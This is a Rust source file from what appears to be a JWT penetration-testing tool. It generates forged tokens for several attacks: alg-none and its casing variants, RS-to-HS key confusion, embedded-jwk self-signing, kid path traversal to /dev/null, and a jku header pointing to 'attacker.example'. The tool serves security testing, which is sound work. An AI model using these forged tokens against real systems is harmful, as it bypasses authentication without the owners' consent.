//! Known JWT attack-variant generation.
//!
//! Given a decoded token, produces the catalog of forged tokens probing
//! for the classic verifier flaws: missing `none` handling, algorithm
//! confusion, header key-injection via `jwk`, `kid`, and `jku`.
//! Generation is pure and deterministic: the same input and
//! capabilities always yield the same variants in the same order, so
//! output is diffable across runs.

use serde_json::json;

use crate::core::codec::{self, DecodedToken, Token};
use crate::core::editor::{self, ClaimEdit};
use crate::core::keys::{KeyMaterial, PrivateKey, PublicKey};
use crate::core::signer::{self, Algorithm};
use crate::error::JwtProbeError;

/// The `kid` value for the path-traversal variant: a file with known
/// (empty) content present on practically every Unix target.
const KID_TRAVERSAL_PATH: &str = "../../../../../../../dev/null";

/// Placeholder JWKS URL for the `jku` variant; the tester substitutes
/// their own host before use.
const JKU_PLACEHOLDER_URL: &str = "https://attacker.example/jwks.json";

/// What the tester was able to supply; gates which variants can be built.
#[derive(Debug, Default)]
pub struct Capabilities {
    /// The target's public key, when discoverable. Enables the
    /// RS-to-HS confusion variant.
    pub public_key: Option<PublicKey>,
    /// An attacker-controlled key pair. Enables the embedded-jwk
    /// self-signing variant.
    pub private_key: Option<PrivateKey>,
}

/// One forged token, ready to send or display. Immutable once produced.
#[derive(Debug, Clone)]
pub struct AttackVariant {
    /// Short stable identifier (e.g. "alg-none").
    pub name: String,
    /// Human description of what the variant probes for.
    pub description: String,
    /// The forged token.
    pub token: Token,
    /// Whether the variant only proves anything once the target fetches
    /// attacker-hosted material (e.g. a jku URL).
    pub requires_network_check: bool,
}

/// Generate the attack catalog for a decoded token.
///
/// Variants appear in a fixed order; capability-gated variants are
/// omitted entirely when their precondition is absent, never replaced
/// by placeholders. The input token is not modified.
pub fn generate(
    decoded: &DecodedToken,
    capabilities: &Capabilities,
) -> Result<Vec<AttackVariant>, JwtProbeError> {
    let mut variants = Vec::new();

    variants.push(alg_none(decoded)?);
    variants.extend(alg_none_casings(decoded)?);

    if let Some(public_key) = &capabilities.public_key {
        variants.push(hs_from_rs_confusion(decoded, public_key)?);
    }
    if let Some(private_key) = &capabilities.private_key {
        variants.push(embedded_jwk(decoded, private_key)?);
    }

    variants.push(kid_path_traversal(decoded)?);
    variants.push(jku_redirect(decoded)?);

    Ok(variants)
}

/// `alg: none` with the signature stripped.
fn alg_none(decoded: &DecodedToken) -> Result<AttackVariant, JwtProbeError> {
    let token = signer::sign(decoded, Algorithm::None, &signer::no_key())?;
    Ok(AttackVariant {
        name: "alg-none".to_string(),
        description: "algorithm set to 'none' and signature removed; accepted by verifiers \
                      that fail to reject unsigned tokens"
            .to_string(),
        token,
        requires_network_check: false,
    })
}

/// `alg` casing variants that bypass naive `alg == "none"` blocklists.
fn alg_none_casings(decoded: &DecodedToken) -> Result<Vec<AttackVariant>, JwtProbeError> {
    ["None", "NONE", "nOnE"]
        .iter()
        .map(|casing| {
            let mut forged =
                editor::apply_edits(decoded, &[ClaimEdit::set_header("alg", json!(casing))]);
            forged.signature_raw.clear();
            Ok(AttackVariant {
                name: format!("alg-none-casing-{casing}"),
                description: format!(
                    "algorithm set to '{casing}'; bypasses case-sensitive 'none' blocklists"
                ),
                token: codec::encode(&forged)?,
                requires_network_check: false,
            })
        })
        .collect()
}

/// RS-to-HS confusion: re-sign with HS256 using the verifier's own
/// public-key PEM bytes as the HMAC secret.
fn hs_from_rs_confusion(
    decoded: &DecodedToken,
    public_key: &PublicKey,
) -> Result<AttackVariant, JwtProbeError> {
    let secret = KeyMaterial::Symmetric(public_key.pem_bytes().to_vec());
    let token = signer::sign(decoded, Algorithm::HS256, &secret)?;
    Ok(AttackVariant {
        name: "hs-from-rs-confusion".to_string(),
        description: "re-signed with HS256 using the public-key PEM as the HMAC secret; \
                      accepted by verifiers that trust the token's alg claim"
            .to_string(),
        token,
        requires_network_check: false,
    })
}

/// Inject the attacker's public key into the header `jwk` claim and
/// self-sign with the matching private key.
fn embedded_jwk(
    decoded: &DecodedToken,
    private_key: &PrivateKey,
) -> Result<AttackVariant, JwtProbeError> {
    let jwk = private_key.public_key()?.to_jwk();
    let alg = match private_key {
        PrivateKey::Rsa(_) => Algorithm::RS256,
        PrivateKey::P256(_) => Algorithm::ES256,
        PrivateKey::P384(_) => Algorithm::ES384,
    };

    let with_jwk = editor::apply_edits(decoded, &[ClaimEdit::set_header("jwk", jwk)]);
    let key = KeyMaterial::AsymmetricPrivate(private_key.clone());
    let token = signer::sign(&with_jwk, alg, &key)?;

    Ok(AttackVariant {
        name: "embedded-jwk".to_string(),
        description: format!(
            "attacker public key embedded in the header jwk claim, self-signed with {alg}; \
             accepted by verifiers that take verification keys from the token itself"
        ),
        token,
        requires_network_check: false,
    })
}

/// Point `kid` at a predictable local file and sign with its guessed
/// content. `/dev/null` is empty, so the guess is the empty secret.
fn kid_path_traversal(decoded: &DecodedToken) -> Result<AttackVariant, JwtProbeError> {
    let with_kid = editor::apply_edits(
        decoded,
        &[ClaimEdit::set_header("kid", json!(KID_TRAVERSAL_PATH))],
    );
    let token = signer::sign(&with_kid, Algorithm::HS256, &signer::no_key())?;
    Ok(AttackVariant {
        name: "kid-path-traversal".to_string(),
        description: format!(
            "kid set to '{KID_TRAVERSAL_PATH}' and signed with the empty secret; accepted by \
             verifiers that read the HMAC key from the kid path"
        ),
        token,
        requires_network_check: false,
    })
}

/// Point `jku` at an attacker-controlled JWKS URL. The signature is
/// left empty: the final signing key depends on what the tester hosts
/// at that URL.
fn jku_redirect(decoded: &DecodedToken) -> Result<AttackVariant, JwtProbeError> {
    let mut forged = editor::apply_edits(
        decoded,
        &[ClaimEdit::set_header("jku", json!(JKU_PLACEHOLDER_URL))],
    );
    forged.signature_raw.clear();
    Ok(AttackVariant {
        name: "jku-redirect".to_string(),
        description: format!(
            "jku set to '{JKU_PLACEHOLDER_URL}'; host a JWKS there and re-sign to probe \
             verifiers that fetch keys from unvalidated URLs"
        ),
        token: codec::encode(&forged)?,
        requires_network_check: true,
    })
}
